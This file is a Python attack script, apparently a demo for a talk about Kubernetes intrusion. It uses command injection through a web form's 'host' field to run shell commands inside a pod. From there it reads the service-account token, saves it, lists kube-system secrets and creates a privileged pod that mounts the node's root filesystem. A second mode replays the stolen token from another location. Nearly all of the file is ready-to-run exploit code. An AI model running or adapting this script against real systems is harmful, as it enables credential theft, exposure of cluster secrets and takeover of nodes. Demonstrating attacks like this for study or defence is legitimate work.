#!/usr/bin/python3
"""The attack of the talk: through the form into the pod, out with its token.

usage: intruder.py form URL     all that can be done through the form, from the pod itself
       intruder.py lodger FILE  the stolen token (in FILE) used from wherever this runs

Prints one JSON line per step: {"step", "time", "status", ...}. The program that asks is curl, not
the pod's own, and that is part of what a gateway can notice.
"""

from __future__ import annotations

import argparse
import html
import http.client
import json
import re
import subprocess
import sys
import time
from pathlib import Path
from typing import Any
from urllib.parse import urlencode, urlsplit

MOUNT = "/var/run/secrets/kubernetes.io/serviceaccount"
SECRETS = "/api/v1/namespaces/kube-system/secrets"
PODS = "/api/v1/namespaces/kube-system/pods"
MARK = "http-status="


def privileged_pod(name: str) -> dict[str, Any]:
    """A pod that owns its node."""
    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name},
            "spec": {"hostPID": True, "hostNetwork": True,
                     "containers": [{"name": "c", "image": "alpine", "command": ["nsenter", "-t", "1", "-m", "sleep", "1d"],
                                     "securityContext": {"privileged": True},
                                     "volumeMounts": [{"name": "root", "mountPath": "/host"}]}],
                     "volumes": [{"name": "root", "hostPath": {"path": "/"}}]}}


def tell(step: str, status: int, **more: Any) -> None:
    """One step, as a line."""
    print(json.dumps({"step": step, "time": time.time(), "status": status, **more}), flush=True)


def status_of(output: str) -> int:
    """The status that curl was told to print last."""
    found = re.findall(re.escape(MARK) + r"(\d{3})", output)
    return int(found[-1]) if found else 0


class ThroughForm:
    """Runs shell commands in the pod by way of its form."""

    def __init__(self, url: str, server: str) -> None:
        self.url = urlsplit(url)
        self.server = server

    def shell(self, command: str) -> str:
        """What a command printed over there."""
        connection = http.client.HTTPConnection(self.url.hostname or "", self.url.port or 80, timeout=30)
        connection.request("POST", "/", urlencode({"host": f"localhost /etc/hosts; {command} #"}),
                           {"Content-Type": "application/x-www-form-urlencoded"})
        page = connection.getresponse().read().decode()
        connection.close()
        found = re.search(r'<pre id="answer">(.*)</pre>', page, re.S)
        return html.unescape(found.group(1)) if found else ""

    def curl(self, path: str, more: str = "") -> int:
        """A request to the API server with the pod's own token, asked by curl in that pod."""
        return status_of(self.shell(
            f"curl -s -o /dev/null -m 10 -w '{MARK}%{{http_code}}' --cacert {MOUNT}/ca.crt "
            f"-H \"Authorization: Bearer $(cat {MOUNT}/token)\" {more} {self.server}{path}"))

    def attack(self, token_out: Path | None) -> None:
        """Read the token, list secrets, create a privileged pod."""
        token = re.search(r"eyJ[\w-]+\.[\w-]+\.[\w-]+", self.shell(f"cat {MOUNT}/token"))
        tell("read token", 200 if token else 0, bytes=len(token.group(0)) if token else 0)
        if token and token_out:
            token_out.write_text(token.group(0))
            token_out.chmod(0o600)
        tell("list secrets", self.curl(SECRETS))
        pod = json.dumps(privileged_pod("node-helper"))
        tell("create privileged pod", self.curl(PODS, f"-X POST -H 'Content-Type: application/json' -d '{pod}'"))


def lodger(token_file: Path, server: str, ca: Path) -> None:
    """The same with the token in hand, from another pod."""
    def curl(path: str, *more: str) -> int:
        command = ["curl", "-s", "-o", "/dev/null", "-m", "10", "-w", MARK + "%{http_code}", "--cacert", str(ca),
                   "-H", f"Authorization: Bearer {token_file.read_text().strip()}", *more, server + path]
        return status_of(subprocess.run(command, capture_output=True, text=True, check=False).stdout)

    tell("list secrets", curl(SECRETS))
    body = json.dumps(privileged_pod("node-helper-2"))
    tell("create privileged pod", curl(PODS, "-X", "POST", "-H", "Content-Type: application/json", "-d", body))


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("how", choices=("form", "lodger"))
    parser.add_argument("what", help="URL of the form, or the file with the stolen token")
    parser.add_argument("--server", default="https://10.98.0.2:6443")
    parser.add_argument("--ca", type=Path, default=Path(MOUNT) / "ca.crt")
    parser.add_argument("--token-out", type=Path, help="where to leave the stolen token")
    args = parser.parse_args()
    try:
        if args.how == "form":
            ThroughForm(args.what, args.server).attack(args.token_out)
        else:
            lodger(Path(args.what), args.server, args.ca)
    except (OSError, http.client.HTTPException) as error:
        print(f"intruder: {error}", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
